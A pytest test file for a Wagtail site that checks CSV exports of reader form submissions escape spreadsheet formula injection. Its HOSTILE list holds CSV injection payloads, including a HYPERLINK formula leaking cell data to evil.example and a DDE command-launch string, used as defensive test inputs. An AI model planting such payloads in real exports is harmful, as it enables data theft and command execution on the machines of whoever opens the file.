"""Reader submissions exported as CSV cannot run as spreadsheet formulas (issue #12,
finding 7): a cell starting with =, +, -, @, a tab or a carriage return is prefixed with
an apostrophe. Also the canary for core/csvsafe.py's wrap of Wagtail's export."""

import csv
import io

import pytest
from wagtail.contrib.forms.models import FormSubmission

from masthead.core import csvsafe
from masthead.pages.tests.factories import FormPageFactory, make_home
from masthead.users.tests.factories import StaffFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_that_would_be_formulas_get_an_apostrophe():
    for value in HOSTILE:
        assert csvsafe.cell(value) == "'" + value
    assert csvsafe.cell("Kyiv, 12 May") == "Kyiv, 12 May"
    assert csvsafe.cell(42) == 42


def test_the_submissions_export_neutralises_formulas(client):
    form = FormPageFactory(parent=make_home())
    field = form.get_data_fields()[-1][0]
    for value in HOSTILE:
        FormSubmission.objects.create(page=form, form_data={field: value})
    client.force_login(StaffFactory(groups=["Editors"]))

    response = client.get(f"/admin/forms/submissions/{form.pk}/?export=csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    column = rows[0].index(dict(form.get_data_fields())[field])
    assert [row[column] for row in rows[1:]] == ["'" + value for value in HOSTILE]
